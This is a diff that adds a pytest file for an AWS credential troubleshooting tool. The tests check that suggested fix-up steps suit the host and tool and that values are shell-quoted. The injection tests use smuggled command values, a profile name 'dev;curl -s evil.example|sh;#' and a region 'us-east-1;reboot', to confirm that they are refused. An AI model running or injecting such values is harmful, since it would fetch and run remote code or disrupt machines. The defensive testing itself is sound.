@@ -1,0 +1,163 @@
+"""Steps made to fit the case: only what applies, most likely first, values quoted for their
+shell or refused, `--profile` left out where environment keys are the credentials."""
+
+from __future__ import annotations
+
+import shlex
+
+import pytest
+
+from awsmedic.core.situation import Situation
+from awsmedic.core.steps import build_steps, placeholders_in, unwrap
+from awsmedic.kb.steps import parse_step
+from awsmedic.model import Edit, Fact, Step
+
+
+def steps(markdown: list[str], situation: Situation, **values: str) -> tuple[Step, ...]:
+    sources = [parse_step(text, n)[0] for n, text in enumerate(markdown, 1)]
+    return build_steps(sources, situation, {"profile": "default", **values})
+
+
+LINUX = {"os": Fact("linux"), "host_kind": Fact("linux")}
+WINDOWS = {"os": Fact("windows"), "host_kind": Fact("windows")}
+
+SHELLS = [
+    "Remove the token:\n- <!-- if: not os:windows --> bash: `unset AWS_SESSION_TOKEN`\n"
+    "- <!-- if: os:windows --> PowerShell: `Remove-Item Env:AWS_SESSION_TOKEN`",
+    "<!-- if: cli:v1 --> Install AWS CLI version 2.",
+    "<!-- if: not cli:v1 --> Sign in: `aws sso login --profile {profile}`",
+    "<!-- if: tool:terraform --> Terraform: run `terraform init` again.",
+    "Check: `aws sts get-caller-identity --profile {profile}`",
+]
+
+
+def test_only_what_applies_for_each_host_and_tool() -> None:
+    linux = steps(SHELLS, Situation(facts=LINUX, cli="v2", tool="aws-cli"), profile="dev")
+    text = "\n".join(step.text for step in linux)
+    assert "unset AWS_SESSION_TOKEN" in text and "Remove-Item" not in text
+    assert "Install AWS CLI version 2" not in text and "Terraform" not in text
+    assert linux[1].commands == ("aws sso login --profile dev",)
+    windows = steps(SHELLS, Situation(facts=WINDOWS, cli="v1", tool="terraform"))
+    text = "\n".join(step.text for step in windows)
+    assert "Remove-Item" in text and "unset" not in text
+    assert "aws sso login" not in text and "Install AWS CLI version 2" in text
+    assert "terraform init" in text
+
+
+def test_what_cannot_be_ruled_out_is_shown_after_what_is_known_to_apply() -> None:
+    unknown_cli = steps(SHELLS, Situation(facts=LINUX, tool="terraform"))
+    texts = [step.text.split(":")[0] for step in unknown_cli]
+    # Steps 2 to 4 are alternatives: the Terraform one is known to apply, the CLI ones may.
+    assert texts == [
+        "Remove the token",
+        "Terraform",
+        "Install AWS CLI version 2.",
+        "Sign in",
+        "Check",
+    ]
+
+
+def test_findings_decide_when_a_probe_could_have_reported_them() -> None:
+    markdown = ["<!-- if: env-keys-set --> Unset the keys.", "Check."]
+    assert len(steps(markdown, Situation(present=frozenset({"env-keys-set"})))) == 2
+    assert len(steps(markdown, Situation(decided=frozenset({"env-keys-set"})))) == 1
+    assert len(steps(markdown, Situation())) == 2  # the probe did not run: it may apply
+
+
+def test_injection_in_a_profile_name_never_becomes_a_command() -> None:
+    hostile = "dev;curl -s evil.example|sh;#"
+    for facts in (LINUX, WINDOWS):
+        (step,) = steps(
+            ["Create it: `aws configure --profile {profile}`"],
+            Situation(facts=facts),
+            profile=hostile,
+        )
+        assert step.commands == ("aws configure --profile <profile>",)
+        assert "evil.example" not in " ".join(step.commands)
+        assert (
+            "is not a profile name" in step.text and "`dev;curl -s evil.example|sh;#`" in step.text
+        )
+
+
+@pytest.mark.parametrize(
+    ("value", "posix", "powershell"),
+    [
+        ("dev", "dev", "dev"),
+        ("my profile", "'my profile'", "'my profile'"),
+        ("it's", None, None),  # not a profile name: refused
+    ],
+)
+def test_values_are_quoted_for_the_shell_of_the_step(
+    value: str, posix: str | None, powershell: str | None
+) -> None:
+    for facts, expected in ((LINUX, posix), (WINDOWS, powershell)):
+        (step,) = steps(
+            ["`aws sts get-caller-identity --profile {profile}`"],
+            Situation(facts=facts),
+            profile=value,
+        )
+        if expected is None:
+            assert step.commands == ("aws sts get-caller-identity --profile <profile>",)
+        else:
+            assert step.commands == (f"aws sts get-caller-identity --profile {expected}",)
+            assert shlex.split(step.commands[0])[-1] == value or facts is WINDOWS
+
+
+def test_powershell_assignment_values_are_always_strings() -> None:
+    (step,) = steps(["`$Env:AWS_PROFILE = {profile}`"], Situation(facts=WINDOWS), profile="dev")
+    assert step.commands == ("$Env:AWS_PROFILE = 'dev'",)
+    (step,) = steps(["`export AWS_PROFILE={profile}`"], Situation(facts=LINUX), profile="a b")
+    assert step.commands == ("export AWS_PROFILE='a b'",)
+
+
+def test_no_profile_option_where_environment_keys_are_the_credentials() -> None:
+    facts = {**LINUX, "credential_source": Fact("env")}
+    markdown = [
+        "Check: `aws sts get-caller-identity --profile {profile}`",
+        "Read it: `aws configure get region --profile {profile}`",
+    ]
+    check, read = steps(markdown, Situation(facts=facts), profile="dev")
+    assert check.commands == ("aws sts get-caller-identity",) and "--profile" not in check.text
+    assert read.commands == ("aws configure get region --profile dev",)  # files only: kept
+
+
+def test_unfilled_and_refused_values_are_explained() -> None:
+    (step,) = steps(
+        ["`aws iam get-role --role-name {role_name} --region {region}`"],
+        Situation(facts=LINUX),
+        region="us-east-1;reboot",
+    )
+    assert step.commands == ("aws iam get-role --role-name <role_name> --region <region>",)
+    assert placeholders_in(step.commands) == {"role_name", "region"}
+    assert "`<role_name>`: the name of the role" in step.text
+    assert "`<region>`: the value found, `us-east-1;reboot`, is not a region" in step.text
+
+
+def test_an_edit_step_shows_the_diff_one_command_and_the_evidence() -> None:
+    edit = Edit(
+        "~/.aws/config",
+        4,
+        "[dev]",
+        "[profile dev]",
+        "config-section-without-prefix",
+        "not a profile",
+    )
+    markdown = [
+        "<!-- edit: config-section-without-prefix --> Rename the section.",
+        "<!-- if: not edit:config-section-without-prefix --> Rename it by hand.",
+    ]
+    (step,) = steps(markdown, Situation(facts=LINUX, edits=(edit,)))
+    assert step.edit is not None and (step.edit.file, step.edit.line) == ("~/.aws/config", 4)
+    assert "@@ ~/.aws/config line 4 @@\n-[dev]\n+[profile dev]" in step.text
+    assert step.commands == ("sed -i.bak '4s/^\\[dev]$/[profile dev]/' ~/.aws/config",)
+    assert "Found: `~/.aws/config line 4: not a profile`" in step.text
+    (fallback,) = steps(markdown, Situation(facts=LINUX))
+    assert fallback.edit is None and fallback.text == "Rename it by hand."
+
+
+def test_unwrap_joins_paragraph_lines_and_keeps_blocks() -> None:
+    text = "One\ntwo `aws sts\n   get-caller-identity`.\n- item\n  more\n\n```sh\na\nb\n```\nafter"
+    assert (
+        unwrap(text)
+        == "One two `aws sts get-caller-identity`.\n- item more\n\n```sh\na\nb\n```\nafter"
+    )
